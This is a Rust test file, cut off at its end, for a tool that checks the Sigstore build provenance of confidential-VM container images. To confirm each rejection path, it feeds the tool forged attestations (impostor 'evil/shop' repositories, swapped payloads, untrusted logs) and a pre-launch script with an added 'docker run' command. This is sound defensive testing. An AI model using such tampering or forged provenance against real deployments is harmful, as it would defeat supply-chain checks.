//! Who built the images: from the rule to the statement, against a Sigstore instance and a GitHub API on loopback.

use std::sync::{Arc, Barrier, Mutex};

use cvm_verify_core::checks::Check;
use cvm_verify_core::report::CheckId::SourceProvenance;
use cvm_verify_core::report::Status::{Error, Fail, Pass, Skip, Warn};
use cvm_verify_core::report::{AcceptedKind, Verdict, rfc3339};
use cvm_verify_core::verify::provenance::{Refusal, SNAPSHOT, SigstoreRoots, verify};
use serde_json::{Value, json};
use simulator::{Cvm, Request, Scripted, ScriptedServer, Sigstore, Workflow, World};

use super::deployment::Deployment;
use super::run::{Ran, run, run_in};

/// When the images were built, Unix seconds: long before the tests.
const BUILT: u64 = 1_700_000_000;
/// The images of the simulated deployment.
pub const IMAGES: [(&str, &str); 2] = [
    (
        "ghcr.io/example/web",
        "5d2f1f9d3c8a7b6e4f0a1b2c3d4e5f60718293a4b5c6d7e8f9010203040506aa",
    ),
    (
        "docker.io/example/worker",
        "9a0b1c2d3e4f5061728394a5b6c7d8e9f0010203040506070809aabbccddeeff",
    ),
];
pub const WORKFLOW: &str = "--source-workflow=.github/workflows/release.yml";
pub const TAGS: &str = "--source-ref=refs/tags/*";
pub const REPOSITORY: &str = "--source-repository=example/shop";

pub fn sigstore() -> Sigstore {
    Sigstore::new(7, BUILT)
}

/// The bundle about a digest, from a workflow.
pub fn bundle(workflow: &Workflow, digest: &str) -> Value {
    sigstore().sign(workflow, &workflow.provenance("image", digest))
}

/// The digest that a request to GitHub's API asks for.
pub fn asked_digest(request: &Request) -> String {
    let path = request.path();
    path.rsplit("sha256:").next().unwrap_or_default().to_owned()
}

/// GitHub's API with one attestation of this workflow for each digest.
pub fn github(workflow: Workflow) -> ScriptedServer {
    ScriptedServer::http(move |request| {
        let bundle = bundle(&workflow, &asked_digest(request));
        Scripted::json(json!({ "attestations": [{ "repository_id": 1, "bundle": bundle }] }))
    })
}

/// The same CVM, which runs nothing before the containers.
pub fn without_script(mut cvm: Cvm) -> Cvm {
    let mut document: Value = serde_json::from_str(&cvm.app_compose).unwrap();
    document["pre_launch_script"] = "".into();
    cvm.app_compose = document.to_string();
    cvm
}

pub struct Release {
    pub deployment: Deployment,
    pub api: ScriptedServer,
}

impl Release {
    pub fn of(api: ScriptedServer) -> Self {
        let cvm = without_script(Cvm::healthy(&World::default()));
        Self::with(Deployment::expecting(cvm.clone(), &cvm), api)
    }

    pub fn with(deployment: Deployment, api: ScriptedServer) -> Self {
        let root = deployment.folder.path().join("trusted_root.json");
        std::fs::write(root, sigstore().trusted_root().to_string()).unwrap();
        Self { deployment, api }
    }

    pub fn args(&self, more: &[&str]) -> Vec<String> {
        let mut args = vec![
            format!("--source-api-url={}", self.api.url()),
            format!("--sigstore-root={}", self.deployment.path("trusted_root.json")),
        ];
        args.extend(more.iter().map(|arg| (*arg).to_owned()));
        args
    }

    fn verify(&self, more: &[&str]) -> Ran {
        self.verify_as(None, more)
    }

    /// With blocks of a policy file.
    pub fn with_policy(&self, images: &str, more: &[&str]) -> Ran {
        let file = self.deployment.path("cvm-verify.toml");
        let url = self.deployment.app.url();
        std::fs::write(
            &file,
            format!("[[target]]\nname = \"shop\"\nurl = \"{url}\"\n{images}"),
        )
        .unwrap();
        let mut args = self
            .deployment
            .strict_args(&["verify", &format!("--config={file}"), "--format=json"]);
        args.extend(self.args(more));
        run(&args)
    }

    /// With a token, or without.
    fn verify_as(&self, token: Option<&str>, more: &[&str]) -> Ran {
        let mut args = self
            .deployment
            .strict_args(&["verify", &self.deployment.app.url(), "--format=json"]);
        args.extend(self.args(more));
        let env: Vec<(&str, &str)> = token
            .map(|token| ("CVM_VERIFY_SOURCE_TOKEN", token))
            .into_iter()
            .collect();
        run_in(&args, &env, |_| {})
    }
}

#[test]
fn a_release_goes_from_its_commit_to_a_pass_that_names_both_images() {
    let release = Release::of(github(Workflow::default()));
    let ran = release.verify(&[REPOSITORY, WORKFLOW, TAGS, "--require-assurance=code+source"]);
    assert_eq!(ran.code, 0, "{ran:#?}");
    ran.assert(SourceProvenance, Pass, None);
    let report = ran.report();
    let target = &report.targets[0];
    let check = target.check(SourceProvenance).unwrap();
    assert!(
        check
            .detail
            .contains("built from example/shop@95baf27 (refs/tags/v1.4.0) by release.yml, github-hosted"),
        "{}",
        check.detail
    );
    assert_eq!(target.sources.len(), 2);
    assert_eq!(target.sources[0].repository_id.as_deref(), Some("804070735"));
    // The roots are the simulator's, and the OS image is accepted by its registers: the tier is met, and is not counted as proven.
    assert_eq!(target.assurance.to_string(), "hardware");
    let accepted = target
        .accepted
        .iter()
        .find(|one| one.check == SourceProvenance)
        .unwrap();
    assert_eq!(
        (accepted.what, accepted.by.as_str()),
        (AcceptedKind::SigstoreRoot, "--sigstore-root")
    );
    let file = std::fs::read(release.deployment.path("trusted_root.json")).unwrap();
    let sha256 = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(file));
    assert!(accepted.reason.contains(&sha256), "{}", accepted.reason);
    assert_eq!(release.api.requests().len(), 2);
    let request = &release.api.requests()[0];
    assert!(
        request
            .target
            .contains("predicate_type=https%3A%2F%2Fslsa.dev%2Fprovenance%2Fv1")
    );
    assert_eq!(request.header("authorization"), None);
}

#[test]
fn without_a_rule_nobody_is_asked_and_nothing_is_claimed() {
    let release = Release::of(github(Workflow::default()));
    let ran = release.verify(&[]);
    assert_eq!(ran.code, 0, "{ran:#?}");
    ran.assert(SourceProvenance, Skip, Some("not-configured"));
    assert_eq!(release.api.requests().len(), 0);
    let wanted = release.verify(&["--require-assurance=code+source"]);
    assert_eq!(wanted.report().verdict, Verdict::Inconclusive);
}

#[test]
fn with_less_than_workflow_and_ref_it_passes_and_does_not_reach_the_tier() {
    let release = Release::of(github(Workflow::default()));
    for (rules, words) in [
        (vec![REPOSITORY], "any workflow, any branch"),
        (vec![REPOSITORY, WORKFLOW], "any branch"),
        (vec![REPOSITORY, TAGS], "any workflow"),
    ] {
        let ran = release.verify(&rules);
        ran.assert(SourceProvenance, Pass, None);
        assert!(ran.check(SourceProvenance).detail.contains(words), "{rules:?}");
        let mut wanted = rules.clone();
        wanted.push("--require-assurance=code+source");
        let ran = release.verify(&wanted);
        assert_eq!(ran.report().verdict, Verdict::Inconclusive, "{rules:?}");
        let fix = ran.check(SourceProvenance).fix.unwrap_or_default();
        assert!(
            fix.contains("name in the rule a workflow, and a ref or a commit"),
            "{fix}"
        );
    }
}

/// Such a script could start images that no rule names.
#[test]
fn a_script_that_nobody_reviewed_keeps_the_tier_away_until_its_hash_is_in_the_lock() {
    let release = Release::with(Deployment::healthy(), github(Workflow::default()));
    let rules = [REPOSITORY, WORKFLOW, TAGS, "--require-assurance=code+source"];
    let ran = release.verify(&rules);
    ran.assert(SourceProvenance, Warn, Some("unreviewed-script"));
    assert_eq!(ran.report().verdict, Verdict::Inconclusive);
    assert!(
        ran.check(SourceProvenance)
            .fix
            .unwrap_or_default()
            .contains("`cvm-verify pin ")
    );
    let ran = release.verify(&rules[..3]);
    ran.assert(SourceProvenance, Warn, Some("unreviewed-script"));
    assert_eq!(ran.report().verdict, Verdict::Pass);
    // One command writes the hash into the lock.
    let lock = release.deployment.path("cvm.lock");
    let mut pin = vec![
        "pin".to_owned(),
        release.deployment.app.url().to_string(),
        "--accept-observed".to_owned(),
        format!("--output={lock}"),
    ];
    pin.extend(release.deployment.network());
    assert_eq!(run(&pin).code, 0);
    let lock = format!("--lock={lock}");
    let ran = release.verify(&[rules[0], rules[1], rules[2], rules[3], &lock]);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(ran.report().verdict, Verdict::Pass, "{ran:#?}");
    // Another script than the locked one is none that was reviewed.
    release.deployment.app.change(|cvm| {
        cvm.app_compose = cvm
            .app_compose
            .replace("echo", "docker run -d example/other; echo");
    });
    let ran = release.verify(&[rules[0], rules[1], rules[2], rules[3], &lock]);
    ran.assert(SourceProvenance, Warn, Some("unreviewed-script"));
}

/// The tier rests on who says that the script is known, whatever else is open of the launch.
#[test]
fn a_script_that_a_row_of_the_users_knows_is_named_beside_the_tier() {
    let release = Release::with(Deployment::healthy(), github(Workflow::default()));
    for public_logs in [false, true] {
        let mut sha256 = String::new();
        release.deployment.app.change(|cvm| {
            let mut document: Value = serde_json::from_str(&cvm.app_compose).unwrap();
            document["public_logs"] = public_logs.into();
            let script = document["pre_launch_script"].as_str().unwrap();
            sha256 = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(script));
            cvm.app_compose = document.to_string();
        });
        let path = release.deployment.path("own.toml");
        std::fs::write(
            &path,
            format!(
                "updated = \"2026-10-01\"\n[[script]]\nversion = \"1\"\nsha256 = \"{sha256}\"\ntext = \"published\"\n\
                 source = \"our review\"\ndate = \"2026-10-01\"\n"
            ),
        )
        .unwrap();
        let rows = format!("--reference-values={path}");
        let ran = release.verify(&[REPOSITORY, WORKFLOW, TAGS, &rows]);
        ran.assert(SourceProvenance, Pass, None);
        let target = &ran.report().targets[0];
        assert!(
            target
                .accepted
                .iter()
                .any(|one| one.check == SourceProvenance && one.what == AcceptedKind::ReferenceValues),
            "{public_logs}: {:?}",
            target.accepted
        );
    }
}

#[test]
fn a_lie_at_every_link_fails_for_its_own_reason() {
    let change = |change: &dyn Fn(&mut Workflow)| {
        let mut workflow = Workflow::default();
        change(&mut workflow);
        workflow
    };
    let text = str::to_owned;
    let lies = [
        (
            change(&|workflow| {
                workflow.repository = text("evil/shop");
                workflow.workflow_repository = text("evil/shop");
            }),
            "other-repository",
        ),
        // A fork's workflow signs for the right repository.
        (
            change(&|workflow| workflow.workflow_repository = text("evil/shop")),
            "other-workflow",
        ),
        (
            change(&|workflow| workflow.path = text(".github/workflows/ci.yml")),
            "other-workflow",
        ),
        (
            change(&|workflow| workflow.git_ref = text("refs/heads/main")),
            "other-ref",
        ),
        (
            change(&|workflow| workflow.git_ref = text("refs/tags-evil/v1")),
            "other-ref",
        ),
        (
            change(&|workflow| workflow.commit = "0".repeat(40)),
            "other-commit",
        ),
        (
            change(&|workflow| workflow.runner = text("self-hosted")),
            "other-runner",
        ),
        (
            change(&|workflow| {
                workflow.trigger = text("pull_request");
                workflow.git_ref = text("refs/pull/7/merge");
            }),
            "other-trigger",
        ),
        (
            change(&|workflow| workflow.issuer = text("https://gitlab.example")),
            "other-issuer",
        ),
    ];
    for (workflow, reason) in lies {
        let release = Release::of(github(workflow));
        let ran = release.verify(&[
            REPOSITORY,
            WORKFLOW,
            TAGS,
            "--source-commit=95baf2766ce4c0cb4a4a2bd7b0ee4ce61f0ba012",
        ]);
        assert_eq!(ran.code, 1, "{reason}");
        ran.assert(SourceProvenance, Fail, Some(reason));
    }
}

/// An enterprise may have an issuer of its own, at github.com or, with data residency, at a host of its own.
#[test]
fn the_issuer_of_an_enterprise_counts_where_the_rule_names_it_and_nowhere_else() {
    let slug = "https://token.actions.githubusercontent.com/octo";
    let tenant = "https://token.actions.octo.ghe.com";
    let own = |issuer: &str, github: &str| Workflow {
        issuer: issuer.to_owned(),
        github: github.to_owned(),
        ..Workflow::default()
    };
    let rule = |issuer: &str| {
        format!("[[target.images]]\nimage = \"*\"\nrepository = \"example/shop\"\nissuer = \"{issuer}\"\n")
    };
    let actions = Workflow::default().issuer;
    for (signer, expected, outcome) in [
        (own(slug, "https://github.com/"), slug, None),
        (own(slug, "https://github.com/"), &actions, Some("other-issuer")),
        (own(&actions, "https://github.com/"), slug, Some("other-issuer")),
        (own(tenant, "https://octo.ghe.com/"), tenant, None),
        (
            own(tenant, "https://octo.ghe.com/"),
            &actions,
            Some("other-issuer"),
        ),
        (Workflow::default(), tenant, Some("other-issuer")),
        // The tenant's workflow speaks of a repository of the same name elsewhere.
        (own(tenant, "https://evil.ghe.com/"), tenant, Some("other-signer")),
        (own(tenant, "https://github.com/"), tenant, Some("other-signer")),
        (
            own(&actions, "https://octo.ghe.com/"),
            &actions,
            Some("other-signer"),
        ),
    ] {
        let said = format!("{} at {} for {expected}", signer.issuer, signer.github);
        let ran = Release::of(github(signer)).with_policy(&rule(expected), &[]);
        let check = ran.check(SourceProvenance);
        let status = outcome.map_or(Pass, |_| Fail);
        assert_eq!(
            (check.status, check.reason.as_deref()),
            (status, outcome),
            "{said}: {check:#?}"
        );
    }
    let ran = Release::of(github(Workflow::default())).with_policy(&rule("https://gitlab.com"), &[]);
    ran.assert_usage_error("is not an issuer of GitHub Actions");
}

#[test]
fn a_name_that_was_registered_again_fails_by_its_number() {
    let release = Release::of(github(Workflow {
        repository_id: 1,
        ..Workflow::default()
    }));
    let block =
        "[[target.images]]\nimage = \"*\"\nrepository = \"example/shop\"\nrepository-id = 804070735\n";
    release
        .with_policy(block, &[])
        .assert(SourceProvenance, Fail, Some("other-repository-id"));
}

#[test]
fn statements_about_another_digest_and_changed_ones_prove_nothing() {
    let other = ScriptedServer::http(|_| {
        let bundle = bundle(&Workflow::default(), &"11".repeat(32));
        Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
    });
    let ran = Release::of(other).verify(&[REPOSITORY]);
    ran.assert(SourceProvenance, Fail, Some("other-subject"));

    // The statement of one image, with the payload of the other: the log has another one.
    let swapped = ScriptedServer::http(|request| {
        let workflow = Workflow::default();
        let mut bundle = bundle(&workflow, &"11".repeat(32));
        let right = sigstore().sign(&workflow, &workflow.provenance("image", &asked_digest(request)));
        bundle["dsseEnvelope"]["payload"] = right["dsseEnvelope"]["payload"].clone();
        Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
    });
    let ran = Release::of(swapped).verify(&[REPOSITORY]);
    ran.assert(SourceProvenance, Fail, Some("signature-invalid"));

    // An instance that nobody trusts.
    let untrusted = ScriptedServer::http(|request| {
        let workflow = Workflow::default();
        let statement = workflow.provenance("image", &asked_digest(request));
        let bundle = Sigstore::new(8, BUILT).sign(&workflow, &statement);
        Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
    });
    let ran = Release::of(untrusted).verify(&[REPOSITORY]);
    ran.assert(SourceProvenance, Fail, Some("unknown-log"));

    // Provenance that says something else than the certificate.
    let contradicting = ScriptedServer::http(|request| {
        let workflow = Workflow::default();
        let claimed = Workflow {
            commit: "1".repeat(40),
            ..workflow.clone()
        };
        let bundle = sigstore().sign(&workflow, &claimed.provenance("image", &asked_digest(request)));
        Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
    });
    let ran = Release::of(contradicting).verify(&[REPOSITORY]);
    ran.assert(SourceProvenance, Fail, Some("predicate-mismatch"));
}

#[test]
fn one_right_statement_among_others_suffices_and_release_statements_of_github_are_passed_over() {
    let several = ScriptedServer::http(|request| {
        let digest = asked_digest(request);
        let wrong = Workflow {
            repository: "evil/shop".to_owned(),
            ..Workflow::default()
        };
        Scripted::json(json!({ "attestations": [
            { "initiator": "github", "bundle": null },
            { "initiator": "user", "bundle": bundle(&wrong, &digest) },
            { "initiator": "user", "bundle": bundle(&Workflow::default(), &digest) },
        ]}))
    });
    Release::of(several)
        .verify(&[REPOSITORY, WORKFLOW, TAGS])
        .assert(SourceProvenance, Pass, None);
}

#[test]
fn a_form_that_is_not_read_convicts_nobody_and_hides_no_other_signer() {
    let old = |digest: &str| {
        let mut bundle = bundle(&Workflow::default(), digest);
        bundle["mediaType"] = json!("application/vnd.dev.sigstore.bundle+json;version=0.2");
        bundle
    };
    let alone = ScriptedServer::http(move |request| {
        Scripted::json(json!({ "attestations": [{ "bundle": old(&asked_digest(request)) }] }))
    });
    let ran = Release::of(alone).verify(&[REPOSITORY]);
    assert_eq!(ran.code, 3, "{ran:#?}");
    ran.assert(SourceProvenance, Error, Some("unsupported"));
    let beside = ScriptedServer::http(move |request| {
        let digest = asked_digest(request);
        let wrong = Workflow {
            repository: "evil/shop".to_owned(),
            ..Workflow::default()
        };
        Scripted::json(json!({ "attestations": [
            { "bundle": old(&digest) },
            { "bundle": bundle(&wrong, &digest) },
        ]}))
    });
    let ran = Release::of(beside).verify(&[REPOSITORY]);
    assert_eq!(ran.code, 1, "{ran:#?}");
    ran.assert(SourceProvenance, Fail, Some("other-repository"));
}

#[test]
fn what_github_does_not_show_without_a_token_is_not_seen_and_with_one_it_is_absent() {
    for status in [403, 404] {
        let api = ScriptedServer::http(move |_| Scripted::of(status, "application/json", b"{}".to_vec()));
        let release = Release::of(api);
        let ran = release.verify(&[REPOSITORY]);
        assert_eq!(ran.code, 3, "{status}: {ran:#?}");
        ran.assert(SourceProvenance, Error, Some("cannot-see"));
    }
    let api = ScriptedServer::http(|request| match request.path() {
        "/repos/example/shop" => Scripted::json(json!({ "full_name": "example/shop" })),
        _ => Scripted::of(404, "application/json", b"{}".to_vec()),
    });
    let release = Release::of(api);
    let ran = release.verify_as(Some("hunter2"), &[REPOSITORY]);
    ran.assert(SourceProvenance, Fail, Some("no-provenance"));
    assert!(!format!("{}{}", ran.stdout, ran.stderr).contains("hunter2"));
    assert_eq!(
        release.api.requests()[0].header("authorization"),
        Some("Bearer hunter2")
    );
    // Nor is anything seen with a token that may not see the repository: it gets the same 404.
    for status in [401, 403, 404] {
        let api = ScriptedServer::http(move |request| match request.path() {
            "/repos/example/shop" => Scripted::of(status, "application/json", b"{}".to_vec()),
            _ => Scripted::of(404, "application/json", b"{}".to_vec()),
        });
        let ran = Release::of(api).verify_as(Some("hunter2"), &[REPOSITORY]);
        ran.assert(SourceProvenance, Error, Some("cannot-see"));
    }
    // An empty list is an answer.
    let api = ScriptedServer::http(|_| Scripted::json(json!({ "attestations": [] })));
    Release::of(api)
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Fail, Some("no-provenance"));
}

#[test]
fn a_token_that_single_sign_on_refuses_is_left_out_once() {
    let api = ScriptedServer::http(|request| match request.header("authorization") {
        Some(_) => Scripted::of(403, "application/json", b"{}".to_vec()),
        None => {
            let bundle = bundle(&Workflow::default(), &asked_digest(request));
            Scripted::json(json!({ "attestations": [{ "bundle": bundle }] }))
        }
    });
    Release::of(api)
        .verify_as(Some("hunter2"), &[REPOSITORY])
        .assert(SourceProvenance, Pass, None);
    let api = ScriptedServer::http(|_| Scripted::of(403, "application/json", b"{}".to_vec()));
    Release::of(api).verify_as(Some("hunter2"), &[REPOSITORY]).assert(
        SourceProvenance,
        Error,
        Some("api-denied"),
    );
}

#[test]
fn a_rate_limit_says_when_it_ends() {
    let api = ScriptedServer::http(|_| {
        Scripted::of(403, "application/json", b"{}".to_vec())
            .header("X-RateLimit-Remaining", "0")
            .header("X-RateLimit-Reset", "1790859600")
    });
    let ran = Release::of(api).verify(&[REPOSITORY]);
    ran.assert(SourceProvenance, Error, Some("rate-limited"));
    ran.assert_detail(SourceProvenance, "until 2026-10-01T13:00:00Z");
}

/// A host for bundles, and an API that names it.
fn by_address(
    body: impl Fn(String) -> Vec<u8> + Send + Sync + 'static,
) -> (Arc<ScriptedServer>, ScriptedServer) {
    let host = Arc::new(ScriptedServer::http(move |request| {
        let digest = request.path().rsplit('/').next().unwrap_or_default().to_owned();
        let bundle = bundle(&Workflow::default(), &digest).to_string();
        Scripted::of(200, "application/x-snappy", body(bundle))
    }));
    let address = host.url();
    let api = ScriptedServer::http(move |request| {
        let url = format!("{address}/{}?sig=secret", asked_digest(request));
        Scripted::json(json!({ "attestations": [{ "bundle": null, "bundle_url": url }] }))
    });
    (host, api)
}

#[test]
fn a_bundle_by_address_is_read_as_snappy_without_the_token() {
    let compress = |text: String| snap::raw::Encoder::new().compress_vec(text.as_bytes()).unwrap();
    let (host, api) = by_address(compress);
    let release = Release::of(api);
    let ran = release.verify_as(Some("hunter2"), &[REPOSITORY]);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(host.requests().len(), 2);
    assert!(
        host.requests()
            .iter()
            .all(|request| request.header("authorization").is_none())
    );
    // The address is a credential.
    assert!(!format!("{}{}", ran.stdout, ran.stderr).contains("sig=secret"));
    // Plain JSON is taken, too.
    let (_host, api) = by_address(String::into_bytes);
    Release::of(api)
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Pass, None);
}

#[test]
fn a_bundle_that_is_not_one_is_no_answer() {
    // The head of a block of 17 MiB.
    let (_host, api) = by_address(|_| vec![0x80, 0x80, 0xc0, 0x08, 0x00]);
    Release::of(api)
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Error, Some("malformed-answer"));
    for answer in [
        json!({ "attestations": [{ "bundle": null, "bundle_url": null }] }),
        json!({ "attestations": [{ "bundle_url": "not an address" }] }),
        json!([]),
    ] {
        let text = answer.to_string();
        let api = ScriptedServer::http(move |_| Scripted::json(&text));
        Release::of(api)
            .verify(&[REPOSITORY])
            .assert(SourceProvenance, Error, Some("malformed-answer"));
    }
}

#[test]
fn statements_that_are_not_read_are_said_and_convict_nobody() {
    let api = |count: usize, right: bool| {
        ScriptedServer::http(move |request| {
            let digest = asked_digest(request);
            let wrong = bundle(&Workflow::default(), &"11".repeat(32));
            let mut list: Vec<Value> = (0..count).map(|_| json!({ "bundle": wrong })).collect();
            if right {
                list[0] = json!({ "bundle": bundle(&Workflow::default(), &digest) });
            }
            Scripted::json(json!({ "attestations": list }))
        })
    };
    Release::of(api(31, false)).verify(&[REPOSITORY]).assert(
        SourceProvenance,
        Error,
        Some("too-many-statements"),
    );
    Release::of(api(31, true))
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Pass, None);
    Release::of(api(30, false))
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Fail, Some("other-subject"));
    // Pages that go on.
    let address = Arc::new(Mutex::new(String::new()));
    let known = Arc::clone(&address);
    let endless = ScriptedServer::http(move |request| {
        let next = format!(
            "<{}{}?page=2>; rel=\"next\"",
            known.lock().unwrap(),
            request.path()
        );
        Scripted::json(json!({ "attestations": [] })).header("Link", &next)
    });
    *address.lock().unwrap() = endless.url().to_string().trim_end_matches('/').to_owned();
    let release = Release::of(endless);
    release
        .verify(&[REPOSITORY])
        .assert(SourceProvenance, Error, Some("too-many-statements"));
    assert_eq!(release.api.requests().len(), 2 * 4);
    // Files.
    let release = Release::of(github(Workflow::default()));
    let path = release.deployment.path("bundles.jsonl");
    let of_image = |(_, digest): &(&str, &str)| {
        let other = Workflow {
            repository: "evil/shop".to_owned(),
            ..Workflow::default()
        };
        format!("{}\n", bundle(&other, digest)).repeat(31)
    };
    std::fs::write(&path, IMAGES.iter().map(of_image).collect::<String>()).unwrap();
    let option = format!("--provenance-bundle={path}");
    release
        .verify(&[REPOSITORY, &option])
        .assert(SourceProvenance, Error, Some("too-many-statements"));
}

#[test]
fn a_signature_before_the_provenance_does_not_hide_it() {
    let api = ScriptedServer::http(|request| {
        let digest = asked_digest(request);
        let workflow = Workflow::default();
        let mut signature = workflow.provenance("image", &digest);
        signature["predicateType"] = json!("https://sigstore.dev/cosign/sign/v1");
        signature["predicate"] = json!({});
        Scripted::json(json!({ "attestations": [
            { "bundle": sigstore().sign(&workflow, &signature) },
            { "bundle": bundle(&workflow, &digest) },
        ]}))
    });
    let release = Release::of(api);
    let ran = release.with_policy(
        "[[target.images]]\nimage = \"*\"\nrepository = \"example/shop\"\nworkflow = \".github/workflows/release.yml\"\n\
         ref = \"refs/tags/*\"\naccept = [\"provenance\", \"signature\"]\n",
        &["--require-assurance=code+source"],
    );
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(ran.code, 0, "{ran:#?}");
}

#[test]
fn a_workflow_file_may_have_an_at_sign_in_its_name() {
    let release = Release::of(github(Workflow {
        path: ".github/workflows/release@v2.yml".to_owned(),
        ..Workflow::default()
    }));
    release
        .verify(&[
            REPOSITORY,
            "--source-workflow=.github/workflows/release@v2.yml",
            TAGS,
        ])
        .assert(SourceProvenance, Pass, None);
    release
        .verify(&[REPOSITORY, WORKFLOW, TAGS])
        .assert(SourceProvenance, Fail, Some("other-workflow"));
}

#[test]
fn short_options_hold_for_images_that_a_block_or_the_lock_names() {
    let release = Release::of(github(Workflow::default()));
    let block =
        "[[target.images]]\nimage = \"*/*\"\nrepository = \"Example/Shop\"\n".replace("*/*", "ghcr.io/*");
    let other_commit = format!("--source-commit={}", "0".repeat(40));
    for (option, reason) in [
        (other_commit.as_str(), "other-commit"),
        ("--source-ref=refs/heads/main", "other-ref"),
        ("--source-workflow=.github/workflows/ci.yml", "other-workflow"),
    ] {
        // The image of Docker Hub is waived, so that only the block's rule can fail.
        let text = format!(
            "{block}[[target.images]]\nimage = \"docker.io/*\"\nprovenance = \"none: another team\"\n"
        );
        release
            .with_policy(&text, &[REPOSITORY, option])
            .assert(SourceProvenance, Fail, Some(reason));
    }
    // Rules of other repositories keep what they say.
    let text = "[[target.images]]\nimage = \"ghcr.io/*\"\nrepository = \"example/shop\"\n\
                [[target.images]]\nimage = \"docker.io/*\"\nrepository = \"example/shop\"\n";
    release
        .with_policy(text, &["--source-repository=other/repo", &other_commit])
        .assert(SourceProvenance, Pass, None);
    release
        .with_policy(
            "[[target.images]]\nimage = \"*\"\nrepository = \"a/b\"\n",
            &[REPOSITORY],
        )
        .assert_usage_error("two rules name the image *");
}

#[test]
fn what_is_remembered_of_one_target_is_used_for_another_only_if_its_rule_holds() {
    // At first GitHub has the statement of a tag alone, then that of a branch as well.
    let seen: Mutex<Vec<String>> = Mutex::default();
    let api = ScriptedServer::http(move |request| {
        let digest = asked_digest(request);
        let mut seen = seen.lock().unwrap();
        let is_first = !seen.contains(&digest);
        seen.push(digest.clone());
        let branch = Workflow {
            git_ref: "refs/heads/main".to_owned(),
            ..Workflow::default()
        };
        let mut bundles = vec![bundle(&Workflow::default(), &digest)];
        bundles.extend((!is_first).then(|| bundle(&branch, &digest)));
        let bundles: Vec<Value> = bundles.iter().map(|bundle| json!({ "bundle": bundle })).collect();
        Scripted::json(json!({ "attestations": bundles }))
    });
    let release = Release::of(api);
    let url = release.deployment.app.url();
    let rule = "source-repository = \"example/shop\"\nsource-workflow = \".github/workflows/release.yml\"";
    let second = format!(
        "{rule}\nsource-ref = [\"refs/tags/*\"]\n[[target]]\nname = \"branch\"\nurl = \"{url}\"\n{rule}\nsource-ref = \
         [\"refs/heads/main\"]\n"
    );
    let ran = release.with_policy(&second, &["--concurrency=1"]);
    let report = ran.report();
    let statuses: Vec<_> = (report.targets.iter())
        .map(|target| {
            (
                target.name.as_str(),
                target.check(SourceProvenance).unwrap().status,
            )
        })
        .collect();
    assert_eq!(statuses, [("shop", Pass), ("branch", Pass)], "{ran:#?}");
    // Each of both images once for each target: what was remembered did not meet the second rule.
    assert_eq!(release.api.requests().len(), 4);
}

#[test]
fn a_statement_of_the_future_says_both_times_and_speaks_against_nobody() {
    let roots = SigstoreRoots::of_file(sigstore().trusted_root().to_string().as_bytes()).unwrap();
    let (_, image) = IMAGES[0];
    let mut digest = [0; 32];
    hex::decode_to_slice(image, &mut digest).unwrap();
    let bundle = bundle(&Workflow::default(), image).to_string();
    let at = |now| verify(bundle.as_bytes(), &digest, &roots, now);
    assert!(at(BUILT).is_ok());
    for ahead in [61, 120, 86_400] {
        let now = BUILT - ahead;
        let refusal = at(now).unwrap_err();
        assert_eq!(refusal, Refusal::TimeAhead { signed: BUILT, now });
        for time in [BUILT, now] {
            assert!(refusal.to_string().contains(&rfc3339(time)), "{refusal}");
        }
    }
    // How much later is said by the two times: the library has a limit of its own.
    let mut reasons = Check::of(SourceProvenance).reasons.iter();
    let reason = reasons.find(|reason| reason.id == "time-ahead").unwrap();
    assert!(!reason.means.contains("minute"), "{}", reason.means);
    assert!(reason.fix.contains("clock"), "{}", reason.fix);
}

#[test]
fn a_replay_decides_alike_and_asks_nobody() {
    let release = Release::of(github(Workflow::default()));
    let evidence = release.deployment.path("evidence.json");
    let rules = [REPOSITORY, WORKFLOW, TAGS];
    let mut args: Vec<&str> = rules.to_vec();
    let option = format!("--evidence={evidence}");
    args.push(&option);
    let live = release.verify(&args);
    live.assert(SourceProvenance, Pass, None);
    let asked = release.api.requests().len();
    let replay = |rules: &[&str]| {
        let mut args = release.deployment.replay_args(&[
            "replay",
            &evidence,
            "--format=json",
            &format!("--sigstore-root={}", release.deployment.path("trusted_root.json")),
        ]);
        args.extend(rules.iter().map(|rule| (*rule).to_owned()));
        run(&args)
    };
    let replayed = replay(&rules);
    assert_eq!(replayed.check(SourceProvenance), live.check(SourceProvenance));
    replay(&["--source-repository=other/repo"]).assert(SourceProvenance, Fail, Some("other-repository"));
    assert_eq!(release.api.requests().len(), asked);
    // Without the rules at the time of recording there is nothing to judge.
    let bare = release.verify(&[&option]);
    assert_eq!(bare.code, 0);
    replay(&rules).assert(SourceProvenance, Error, Some("not-recorded"));
}

#[test]
fn files_are_enough_and_then_nobody_is_asked() {
    let release = Release::of(github(Workflow::default()));
    let path = release.deployment.path("bundles.jsonl");
    let lines: Vec<String> = IMAGES
        .iter()
        .map(|(_, digest)| bundle(&Workflow::default(), digest).to_string())
        .collect();
    std::fs::write(&path, lines.join("\n")).unwrap();
    let option = format!("--provenance-bundle={path}");
    let ran = release.verify(&[REPOSITORY, WORKFLOW, TAGS, &option]);
    ran.assert(SourceProvenance, Pass, None);
    assert_eq!(release.api.requests().len(), 0);
    std::fs::write(&path, "no bundle").unwrap();
    release
        .verify(&[REPOSITORY, &option])
        .assert_usage_error("it is neither a Sigstore bundle");
}

#[test]
fn an_image_without_provenance_is_waived_in_writing_alone() {
    let release = Release::of(github(Workflow::default()));
    let write = |images: &str| release.with_policy(images, &[]);
    let web = "[[target.images]]\nimage = \"ghcr.io/example/*\"\nrepository = \"example/shop\"\n";
    let waived = write(&format!(
        "{web}[[target.images]]\nimage = \"*\"\nprovenance = \"none: built by hand until March\"\n"
    ));
    assert_eq!(waived.code, 0, "{waived:#?}");
    waived.assert(SourceProvenance, Skip, Some("unproven-images"));
    let accepted = &waived.report().targets[0].accepted;
    assert!(
        accepted
            .iter()
